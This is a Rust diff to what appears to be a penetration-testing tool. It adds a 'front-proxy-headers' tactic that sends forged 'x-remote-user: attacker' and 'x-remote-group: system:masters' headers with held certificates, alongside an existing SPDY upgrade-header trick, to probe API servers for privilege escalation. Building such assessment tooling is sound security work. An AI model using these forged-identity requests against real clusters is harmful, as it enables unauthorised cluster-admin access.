@@ -12,22 +12,46 @@ use ravelin_pki::inspect;
 use std::net::SocketAddr;
 
 /// Asking with every credential that it holds.
-pub struct OwnCredentials {
-    /// Does each request ask for another protocol too (RFC 9110 section 7.8)? A server that treats
-    /// these apart may forget to ask whether they are allowed.
-    pub upgrading: bool,
+pub struct OwnCredentials(pub Dress);
+
+/// What its requests look like.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Dress {
+    /// Like anybody's.
+    Plain,
+    /// They ask for another protocol (RFC 9110 section 7.8): a server that treats such requests
+    /// apart may forget to ask whether they are allowed.
+    Upgrade,
+    /// They name another as whom they are made, as a front proxy's do: a server that takes any
+    /// certificate for a front proxy's believes it.
+    FrontProxy,
+}
+
+impl Dress {
+    fn headers(self) -> &'static [(&'static str, &'static str)] {
+        match self {
+            Self::Plain => &[],
+            Self::Upgrade => &[("connection", "Upgrade"), ("upgrade", "SPDY/3.1")],
+            Self::FrontProxy => &[("x-remote-user", "attacker"), ("x-remote-group", "system:masters")],
+        }
+    }
 }
 
 #[async_trait(?Send)]
 impl Tactic for OwnCredentials {
     fn name(&self) -> &'static str {
-        if self.upgrading { "ask-for-an-upgrade" } else { "own-credentials" }
+        match self.0 {
+            Dress::Plain => "own-credentials",
+            Dress::Upgrade => "ask-for-an-upgrade",
+            Dress::FrontProxy => "front-proxy-headers",
+        }
     }
 
     async fn run(&self, field: &Field, target: &Target, probe: Probe<'_>) -> Attempt {
         let notes = Notes::new(field);
         probe.await;
-        for held in field.credentials() {
+        let proves = |held: &Held| self.0 != Dress::FrontProxy || matches!(held.secret, Secret::Certificate(_));
+        for held in field.credentials().into_iter().filter(proves) {
             for server in &target.servers {
                 self.show(&notes, target, (&held, *server)).await;
             }
@@ -41,14 +65,12 @@ impl OwnCredentials {
         let flow = notes.field().flow(server);
         for wanted in target.asks.iter().chain(&target.reads) {
             let mut asked = for_ask(wanted, server);
-            if self.upgrading {
-                let headers = [("connection", "Upgrade"), ("upgrade", "SPDY/3.1")];
-                asked.headers.extend(headers.map(|(name, value)| (name.to_owned(), value.to_owned())));
-            }
+            let headers = self.0.headers().iter();
+            asked.headers.extend(headers.map(|(name, value)| ((*name).to_owned(), (*value).to_owned())));
             match request(notes, server, target.speaks, (asked, Shown::of(&held.secret))).await {
                 Ok(answer) if answer.granted() => {
                     notes.learned(&flow, answer.body);
-                    let text = format!("got {} with {}", wanted.what, held.what);
+                    let text = format!("{} with {}", wanted.deed(), held.what);
                     notes.gained(&flow, GainKind::BeyondRights, text.clone());
                     if wanted.method != "GET" && is_the_clients(&held.secret, target) {
                         notes.gained(&flow, GainKind::ExecutedAsClient, text);
